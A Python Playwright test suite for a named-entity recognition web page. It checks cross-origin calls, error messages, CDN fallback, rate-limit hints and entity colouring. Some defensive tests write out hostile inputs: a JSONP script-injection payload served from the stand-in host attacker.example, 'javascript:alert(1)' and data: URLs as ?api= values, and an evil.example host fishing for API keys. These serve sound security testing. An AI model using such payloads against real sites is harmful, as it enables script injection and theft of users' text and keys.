"""simple_client.html in headless Chromium (driven by Playwright) against gunicorn.

The page is opened from a second local server, another origin than the API, so
the calls are cross-origin for real. There is no internet: the page's jQuery
CDN request is answered with the copy in static/ (jQuery 3.7.1 as the CDN
serves it; the page's integrity hash refuses any other bytes).
"""

from __future__ import annotations

import email.utils
import functools
import hashlib
import http.server
import json
import re
import shutil
import socket
import threading
import time
from collections.abc import Iterator
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Page, Route, expect, sync_playwright

from tests.launcher import ROOT, Gunicorn, free_port, gunicorn
from tests.service_fixtures import post_json

pytestmark = pytest.mark.browser


# The system's Chromium where there is one, else the one `python -m playwright
# install chromium` downloads (the Makefile's chromium target sees to either).
CHROMIUM = shutil.which("chromium")
# Without the background-networking switches Chromium keeps calling Google's
# servers, which a closed network refuses.
CHROMIUM_ARGS = [
    "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
    "--disable-sync", "--no-first-run",
]
WEB = ROOT / "nerserve" / "web"  # the page and its static files
JQUERY = WEB / "static" / "jquery-3.7.1.min.js"


@pytest.fixture(scope="session")
def static_site() -> Iterator[str]:
    """The page's folder served by a plain static server: the page's own origin."""
    handler = functools.partial(QuietHandler, directory=str(WEB))
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}"
    httpd.shutdown()
    httpd.server_close()


class QuietHandler(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *args):
        pass


@pytest.fixture(scope="session")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield browser
        browser.close()


def serve_jquery(route: Route) -> None:
    # The page loads jQuery with crossorigin="anonymous" and an integrity hash:
    # the answer needs a CORS header, and the file must be the CDN's byte for byte.
    route.fulfill(path=JQUERY, content_type="application/javascript", headers={"Access-Control-Allow-Origin": "*"})


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context()
    context.route("https://code.jquery.com/**", serve_jquery)
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    # Whatever the pages' Content-Security-Policy refuses is an error too.
    page.on("console", lambda message: errors.append(message.text)
            if "Content Security Policy" in message.text else None)
    yield page
    context.close()
    assert not errors, errors


def open_with_api(page: Page, page_url: str, api: str) -> None:
    """The page at `page_url`, calling `api`, with the user's consent to send text there."""
    page.goto(f"{page_url}?api={quote(api, safe='')}")
    page.check("#trust-api")


def find_entities(page: Page, text: str) -> None:
    page.fill("#text", text)
    page.click("#submit")


def text_content(page: Page, selector: str) -> str:
    """The element's text exactly as the page holds it (Playwright's to_have_text
    collapses runs of spaces, which are the columns here)."""
    return page.locator(selector).evaluate("element => element.textContent")


def columns(line: str) -> list[int]:
    return [match.start() for match in re.finditer(r"\S+", line)]


def test_the_page_from_another_origin_shows_entities(page, static_site, server):
    api = server.url + "/api"
    page.goto(f"{static_site}/simple_client.html?api={quote(api, safe='')}")
    expect(page.locator("#api-url")).to_have_text(api)
    expect(page.locator("#submit")).to_be_disabled()  # until the user agrees to send text to that host
    expect(page.locator("#consent")).to_contain_text(f"Send my text to {server.url.removeprefix('http://')}")
    page.check("#trust-api")
    assert page.evaluate("window.location.origin") != server.url
    find_entities(page, "Angela Merkel visited Washington.")
    expect(page.locator("mark.ent-PER")).to_have_text("Angela Merkel")
    expect(page.locator("mark.ent-LOC")).to_have_text("Washington")
    expect(page.locator("#entities")).to_have_text("Angela Merkel visited Washington.")
    expect(page.locator("#error")).to_have_text("")


def test_the_page_shows_each_entitys_score(page, server):
    text = "Angela Merkel visited Washington."
    _, result = post_json(server.url + "/api", text)
    page.goto(server.url + "/client")
    find_entities(page, text)
    marks = page.locator("mark")
    expect(marks).to_have_count(len(result["entities"]))
    for i, entity in enumerate(result["entities"]):
        score = f"{entity['score']:.2f}"
        expect(marks.nth(i)).to_have_attribute("data-score", score)  # shown after the type, by CSS
        expect(marks.nth(i)).to_have_attribute("title", f"{entity['type']}, probability {score}")
    label = marks.first.evaluate("mark => getComputedStyle(mark, '::after').content")
    assert label == f'" {result["entities"][0]["type"]} {result["entities"][0]["score"]:.2f}"'


def test_the_tags_line_up_under_their_tokens(page, server):
    text = "Angela Merkel visited Washington ."
    page.goto(server.url + "/client")
    find_entities(page, text)
    expect(page.locator("mark.ent-LOC")).to_have_text("Washington")  # the answer is shown
    tokens, tags = text_content(page, "#input"), text_content(page, "#output")
    answer = post_json(server.url + "/api", text)[1]
    assert (tokens, tags) == (answer["input"], answer["output"])
    assert tokens.split() == text.split() and tags.split() == answer["tags"]
    assert columns(tags) == columns(tokens)  # each tag starts where its token does
    assert "  " in tags  # short tags are padded to their token's width


def test_an_entity_after_an_emoji_is_marked_exactly(page, server):
    # The API counts code points; an emoji is two UTF-16 units in JavaScript.
    text = "😀😀 Angela Merkel visited Paris 🇫🇷 with Tony Blair."
    page.goto(server.url + "/client")
    find_entities(page, text)
    expect(page.locator("mark.ent-PER")).to_have_count(2)
    assert [text_content(page, f"mark.ent-PER >> nth={i}") for i in (0, 1)] == ["Angela Merkel", "Tony Blair"]
    assert text_content(page, "mark.ent-LOC") == "Paris"
    assert text_content(page, "#entities") == text


def test_the_page_served_by_the_app_calls_its_own_origin(page, server):
    page.goto(server.url + "/client")
    expect(page.locator("#api-url")).to_have_text(server.url + "/api")
    find_entities(page, "I love Paris")
    expect(page.locator("mark.ent-LOC")).to_have_text("Paris")
    expect(page.locator("#output")).to_have_text("O O    B-LOC")


def test_an_api_error_is_shown(page, static_site, server):
    open_with_api(page, f"{static_site}/simple_client.html", server.url + "/api")
    find_entities(page, "a" * 10_001)
    expect(page.locator("#error")).to_contain_text("Error 413: text has 10001 characters; at most 10000")


def test_an_unreachable_api_is_shown(page, static_site):
    dead = f"http://127.0.0.1:{free_port()}/api"
    open_with_api(page, f"{static_site}/simple_client.html", dead)
    find_entities(page, "I love Paris")
    expect(page.locator("#error")).to_have_text(f"Could not reach the API at {dead} (no answer).")


def test_a_timeout_is_shown(page, static_site):
    with socket.socket() as silent:  # accepts connections, never answers
        silent.bind(("127.0.0.1", 0))
        silent.listen()
        api = f"http://127.0.0.1:{silent.getsockname()[1]}/api"
        page.clock.install()  # the page's 10 s timeout, fast-forwarded
        open_with_api(page, f"{static_site}/simple_client.html", api)
        find_entities(page, "I love Paris")
        expect(page.locator("#status")).to_have_text("Working…")
        page.clock.run_for(10_001)
        expect(page.locator("#error")).to_have_text(
            "The API did not answer within 10 s. Try again or shorten the text."
        )


# The page offline, after errors, and against a hostile ?api=.


def test_the_page_works_when_the_jquery_cdn_cannot_be_reached(page, server):
    page.context.unroute("https://code.jquery.com/**")
    page.context.route("https://code.jquery.com/**", lambda route: route.abort())
    with page.expect_request(server.url + "/static/jquery-3.7.1.min.js"):
        page.goto(server.url + "/client")
    find_entities(page, "I love Paris")
    expect(page.locator("mark.ent-LOC")).to_have_text("Paris")
    expect(page.locator("#error")).to_have_text("")


def test_the_page_works_when_the_jquery_cdn_does_not_answer(page, server):
    page.context.unroute("https://code.jquery.com/**")
    page.context.route("https://code.jquery.com/**", lambda route: None)  # left hanging
    page.clock.install()  # the page's wait for the CDN, fast-forwarded
    page.goto(server.url + "/client", wait_until="domcontentloaded")  # "load" waits for the CDN too
    with page.expect_request(server.url + "/static/jquery-3.7.1.min.js"):
        page.clock.run_for(3001)
    page.clock.resume()
    find_entities(page, "I love Paris")
    expect(page.locator("mark.ent-LOC")).to_have_text("Paris")


def test_an_error_clears_the_previous_result(page, server):
    page.goto(server.url + "/client")
    find_entities(page, "I love Paris")
    expect(page.locator("mark.ent-LOC")).to_have_text("Paris")
    find_entities(page, "a" * 10_001)
    expect(page.locator("#error")).to_contain_text("Error 413")
    for element in ("#entities", "#input", "#output", "#status"):
        assert text_content(page, element) == "", element
    expect(page.locator("#submit")).to_be_enabled()


def test_the_jsonp_attack_through_api_runs_no_script_and_sends_no_text(page, server):
    # jQuery made a `<script>` load (JSONP) of a URL holding `=?`, with the text in it.
    secret = "my secret text"
    requests = []

    def attacker(route: Route) -> None:
        requests.append(route.request)
        route.fulfill(body="window.attacked = true;", content_type="application/javascript")

    page.context.route("http://attacker.example/**", attacker)
    page.goto(server.url + "/client?api=" + quote("http://attacker.example/x.js?cb=?", safe=""))
    expect(page.locator("#api-host")).to_have_text("attacker.example")  # the user sees where the text goes
    expect(page.locator("#consent")).to_contain_text("Send my text to attacker.example")
    page.fill("#text", secret)
    page.locator("#submit").click(force=True)  # disabled: nothing happens
    expect(page.locator("#status")).to_have_text("")
    assert requests == [] and page.evaluate("window.attacked") is None

    # Even with the user's consent, what comes back is read as data, never run.
    page.check("#trust-api")
    find_entities(page, secret)
    expect(page.locator("#error")).to_contain_text("http://attacker.example/x.js?cb=? is not JSON")
    assert page.evaluate("window.attacked") is None
    assert requests and all(r.resource_type != "script" and secret not in r.url for r in requests)
    expect(page.locator("#submit")).to_be_enabled()


@pytest.mark.parametrize("api", ["javascript:alert(1)", "data:text/html,x", "/api", "ftp://example.com/api"])
def test_an_api_that_is_not_an_http_url_is_refused(page, server, api):
    page.goto(server.url + "/client?api=" + quote(api, safe=""))
    expect(page.locator("#error")).to_have_text("?api= must be an http or https URL.")
    expect(page.locator("#submit")).to_be_disabled()


# What the real API never answers: an entity without a score, a result without
# entities, an answer that is not JSON (sent as JSON all the same).
FAKE_ANSWERS = {
    "/null-score": {"input": "I love Paris", "output": "O O    B-LOC", "tokens": [], "tags": ["O", "O", "B-LOC"],
                    "entities": [{"text": "Paris", "type": "LOC", "start": 7, "end": 12, "score": None}]},
    "/broken": {"input": "I love Paris", "output": "O O    B-LOC", "entities": None},
    "/not-json": "<html>",
}


class FakeApi(http.server.BaseHTTPRequestHandler):
    """An API on another port that answers FAKE_ANSWERS[path]."""

    def do_OPTIONS(self):
        self.answer(b"")

    def do_POST(self):
        self.rfile.read(int(self.headers["Content-Length"]))
        answer = FAKE_ANSWERS[self.path]
        self.answer(answer.encode() if isinstance(answer, str) else json.dumps(answer).encode())

    def answer(self, body: bytes) -> None:
        self.send_response(200)
        for name, value in (("Content-Type", "application/json"), ("Access-Control-Allow-Origin", "*"),
                            ("Access-Control-Allow-Headers", "Content-Type"), ("Content-Length", str(len(body)))):
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def fake_api() -> Iterator[str]:
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), FakeApi)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}"
    httpd.shutdown()
    httpd.server_close()


def test_the_page_recovers_from_a_null_score_and_broken_answers(page, server, fake_api):
    open_with_api(page, server.url + "/client", fake_api + "/null-score")
    find_entities(page, "I love Paris")
    expect(page.locator("mark.ent-LOC")).to_have_attribute("data-score", "?")
    expect(page.locator("#status")).to_have_text("1 entities")
    expect(page.locator("#submit")).to_be_enabled()

    open_with_api(page, server.url + "/client", fake_api + "/broken")
    find_entities(page, "I love Paris")
    expect(page.locator("#error")).to_contain_text("The API's answer could not be shown")
    expect(page.locator("#status")).to_have_text("")
    assert text_content(page, "#entities") == ""
    expect(page.locator("#submit")).to_be_enabled()

    open_with_api(page, server.url + "/client", fake_api + "/not-json")
    find_entities(page, "I love Paris")
    expect(page.locator("#error")).to_have_text(f"The answer of the API at {fake_api}/not-json is not JSON (HTTP 200).")
    expect(page.locator("#submit")).to_be_enabled()


# The API reference.


def test_docs_renders_and_its_try_it_tags_text(page, server):
    page.goto(server.url + "/docs")
    expect(page.locator(".swagger-ui .info .title")).to_contain_text("Named-entity recognition API")
    operation = page.locator("#operations-default-tag")
    operation.locator(".opblock-summary").click()
    operation.locator("button.execute").click()
    answer = operation.locator(".live-responses-table tr.response")
    expect(answer.locator(".response-col_status")).to_have_text("200")
    expect(answer.locator(".response-col_description")).to_contain_text('"entities"')
    expect(answer.locator(".response-col_description")).to_contain_text('"text": "Paris"')


@pytest.fixture(scope="module")
def keyed_server(tmp_path_factory) -> Iterator[Gunicorn]:
    log = tmp_path_factory.mktemp("keyed") / "gunicorn.log"
    with gunicorn(log, workers=1, NER_API_KEYS=hashlib.sha256(b"page-key").hexdigest()) as server:
        yield server


def test_a_key_pasted_in_the_page_is_sent_cross_origin(page, static_site, keyed_server):
    page.goto(f"{static_site}/simple_client.html?api={quote(keyed_server.url + '/api', safe='')}")
    page.check("#trust-api")
    find_entities(page, "Angela Merkel visited Washington.")
    expect(page.locator("#error")).to_contain_text("Error 401: an API key is required")
    page.fill("#api-key", "page-key")
    page.check("#trust-api")  # again: the box now names the key
    find_entities(page, "Angela Merkel visited Washington.")
    expect(page.locator("mark.ent-PER")).to_have_text("Angela Merkel")
    expect(page.locator("#error")).to_have_text("")


# A link's ?api= host gets the API key only with a consent that names the key.
EVIL_API = "https://evil.example/api"
CORS_ANSWER = {"Access-Control-Allow-Origin": "*", "Access-Control-Allow-Headers": "Authorization, Content-Type"}


def send_without_a_key(page: Page) -> None:
    """A text sent with the key field empty, and answered: whatever an earlier click sent has arrived."""
    page.fill("#api-key", "")
    page.check("#trust-api")
    find_entities(page, "a text")
    expect(page.locator("#status")).to_have_text("0 entities")


def test_a_key_goes_to_another_origin_only_with_a_consent_that_names_it(page, server):
    authorizations = []  # each POST's Authorization header, None for none

    def evil(route: Route) -> None:
        if route.request.method == "POST":
            authorizations.append(route.request.headers.get("authorization"))
        route.fulfill(json={"input": "", "output": "", "entities": []}, headers=CORS_ANSWER)

    page.context.route("https://evil.example/**", evil)
    page.goto(server.url + "/client?api=" + quote(EVIL_API, safe=""))
    page.check("#trust-api")
    expect(page.locator("#consent")).to_contain_text("Send my text to evil.example,")

    # After that consent, a key typed in, and a key the browser fills in without
    # an input event (a password manager): a click sends neither.
    page.fill("#api-key", "typed-key")
    page.locator("#submit").click(force=True)  # disabled: the box no longer covers what would go
    send_without_a_key(page)
    page.locator("#api-key").evaluate("field => { field.value = 'filled-key'; }")
    page.click("#submit")
    send_without_a_key(page)
    assert authorizations == [None, None]

    # The box names the key once there is one; ticked then, the key goes.
    page.fill("#api-key", "named-key")
    expect(page.locator("#consent")).to_contain_text("Send my text and my API key to evil.example,")
    expect(page.locator("#trust-api")).not_to_be_checked()
    page.check("#trust-api")
    find_entities(page, "with a key")
    expect(page.locator("#status")).to_have_text("0 entities")
    assert authorizations == [None, None, "Bearer named-key"]


# When to try again after a 429, from Retry-After.


@pytest.fixture(scope="module")
def quota_server(tmp_path_factory) -> Iterator[Gunicorn]:
    log = tmp_path_factory.mktemp("quota") / "gunicorn.log"
    with gunicorn(log, workers=1, NER_RATE_LIMIT="1/minute") as server:
        yield server


def test_a_429_says_when_to_try_again(page, quota_server):
    page.goto(quota_server.url + "/client")  # the same origin: Retry-After is readable
    find_entities(page, "I love Paris")
    expect(page.locator("mark.ent-LOC")).to_have_text("Paris")
    find_entities(page, "I love Paris")
    expect(page.locator("#error")).to_have_text(re.compile(r"^Error 429: over the requests quota .*\. "
                                                           r"Try again in ([1-9]|[1-5][0-9]|60) s\.$"))


@pytest.mark.parametrize(("retry_after", "exposed", "hint"), [
    ("42", True, "Try again in 42 s."),
    ("600", True, "Try again in 10 min."),
    ("in 300 s", True, "Try again in 5 min."),  # as an HTTP date
    ("42", False, "Try again later."),  # another origin that does not expose it (CORS)
])
def test_retry_after_from_another_origin(page, server, retry_after, exposed, hint):
    if retry_after == "in 300 s":
        retry_after = email.utils.formatdate(time.time() + 300, usegmt=True)
    headers = {**CORS_ANSWER, "Retry-After": retry_after}
    if exposed:
        headers["Access-Control-Expose-Headers"] = "Retry-After"
    error = {"error": {"code": "too_many_requests", "message": "over the quota"}}
    page.context.route("https://evil.example/**", lambda route: route.fulfill(status=429, json=error, headers=headers))
    open_with_api(page, server.url + "/client", EVIL_API)
    find_entities(page, "I love Paris")
    expect(page.locator("#error")).to_have_text(f"Error 429: over the quota. {hint}")


# The legend: the model's entity types, each in its colour.


def background(page: Page, selector: str) -> str:
    return page.locator(selector).evaluate("element => getComputedStyle(element).backgroundColor")


def test_the_legend_shows_the_models_types_in_their_colours(page, server):
    page.goto(server.url + "/client")
    expect(page.locator("#legend span")).to_have_text(["LOC", "MISC", "ORG", "PER"])  # GET /api/model
    find_entities(page, "Angela Merkel visited Washington.")
    expect(page.locator("mark.ent-PER")).to_have_text("Angela Merkel")
    assert background(page, "mark.ent-PER") == background(page, "#legend span >> nth=3") != "rgba(0, 0, 0, 0)"
    assert background(page, "mark.ent-LOC") == background(page, "#legend span >> nth=0")


def test_a_type_the_page_does_not_know_gets_a_colour_of_its_own(page, server):
    # A model with another type: the page has no colour written for it.
    answer = {"input": "BRCA1 Merkel", "output": "B-GENE B-PER", "entities": [
        {"text": "BRCA1", "type": "GENE", "start": 0, "end": 5, "score": 0.9},
        {"text": "Merkel", "type": "PER", "start": 6, "end": 12, "score": 0.9}]}
    page.route(server.url + "/api/model", lambda route: route.fulfill(json={"entity_types": ["GENE", "PER"]}))
    page.route(server.url + "/api", lambda route: route.fulfill(json=answer))
    page.goto(server.url + "/client")
    expect(page.locator("#legend span")).to_have_text(["GENE", "PER"])
    find_entities(page, "BRCA1 Merkel")
    expect(page.locator("mark.ent-GENE")).to_have_text("BRCA1")
    gene, person = background(page, "#legend span >> nth=0"), background(page, "#legend span >> nth=1")
    assert gene not in ("rgba(0, 0, 0, 0)", person)
    assert background(page, "mark.ent-GENE") == gene and background(page, "mark.ent-PER") == person
